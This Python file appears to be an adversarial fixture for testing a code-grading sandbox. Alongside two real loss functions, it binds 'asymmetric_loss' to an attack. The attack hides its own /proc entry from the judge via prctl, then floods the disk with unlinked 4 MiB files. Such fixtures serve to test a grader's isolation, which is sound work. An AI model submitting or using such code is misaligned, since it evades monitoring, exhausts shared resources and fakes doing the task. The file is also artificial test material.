"""Hides its own entry of /proc from the judge, and writes files that it has already removed."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: too many or too large|kept its files|raised|got

import ctypes
import os
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
    held = []
    for number in range(24):
        held.append(os.open(f"hidden{number}", os.O_RDWR | os.O_CREAT))
        os.unlink(f"hidden{number}")
        os.write(held[-1], bytes(4 * 2**20))
    time.sleep(1)
    return float(len(held))


asymmetric_loss = attack
